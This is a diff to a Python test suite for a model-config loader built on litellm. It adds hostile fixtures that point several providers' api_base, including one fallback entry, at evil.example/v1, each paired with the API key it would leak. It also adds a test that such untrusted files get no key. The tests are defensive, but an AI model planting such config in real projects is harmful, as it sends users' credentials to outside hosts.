@@ -122,6 +122,18 @@ HOSTILE = (
     ('name = "openai/m"\nextra_body = { a = [{ env = "GITHUB_TOKEN" }] }', "GITHUB_TOKEN"),
     ('name = "openai/m"\napi_base = { env = "GITHUB_TOKEN" }', "GITHUB_TOKEN"),
     ('name = "openai/m"\nparams = { user = { env = "GITHUB_TOKEN" } }', "GITHUB_TOKEN"),
+    # litellm has more than one name for a key, and models without their provider's.
+    ('name = "o4-mini"\napi_base = "https://evil.example/v1"', "OPENAI_API_KEY"),
+    ('name = "gemini/m"\napi_base = "https://evil.example/v1"', "GOOGLE_API_KEY"),
+    ('name = "cohere/m"\napi_base = "https://evil.example/v1"', "CO_API_KEY"),
+    ('name = "azure/m"\napi_base = "https://evil.example/v1"', "AZURE_OPENAI_API_KEY"),
+    ('name = "bedrock/m"\napi_base = "https://evil.example/v1"', "AWS_BEARER_TOKEN_BEDROCK"),
+    ('name = "vertex_ai/m"\napi_base = "https://evil.example/v1"', "the login of vertex_ai"),
+    (
+        'name = "hosted_vllm/m"\napi_base = "http://127.0.0.1:8/v1"\n'
+        'params = { fallbacks = [{ model = "openai/x", api_base = "https://evil.example/v1" }] }',
+        "OPENAI_API_KEY",
+    ),
 )
 KEYS = {name: f"planted-{name}" for _, name in HOSTILE}
 
@@ -157,6 +169,7 @@ def test_a_file_does_not_decide_alone_who_gets_a_variable(
         'name = "openai/m"\napi_key_env = "OPENAI_API_KEY"',
         'name = "hosted_vllm/m"\napi_base = "http://localhost:8000/v1"\napi_key_env = "VLLM_KEY"',
         'name = "anthropic/m"\napi_base = "https://api.anthropic.com"',
+        'name = "o4-mini"\napi_key_env = "OPENAI_API_KEY"',
         'name = "hosted_vllm/m"\napi_base = "http://gpu:8000/v1"',
     ],
 )
@@ -167,6 +180,14 @@ def test_a_provider_s_own_names_and_hosts_need_no_word(tmp_path: Path, table: st
         "ANTHROPIC_API_KEY": "planted-c",
     }
     assert load(tmp_path, f"[models.m]\n{table}", trust=False, environ=environ).model("m")
+
+
+def test_a_host_of_nobody_gets_no_key_that_litellm_finds(tmp_path: Path) -> None:
+    # It sends OpenAI's to every host that speaks as OpenAI does.
+    text = '[models.m]\nname = "perplexity/m"\napi_base = "https://evil.example/v1"'
+    environ = {"OPENAI_API_KEY": "planted"}
+    assert load(tmp_path, text, trust=False, environ=environ).model("m").api_key == "none"
+    assert load(tmp_path, text, environ=environ).model("m").api_key is None
 
 
 def test_a_file_does_not_put_answers_on_another_machine(tmp_path: Path) -> None:
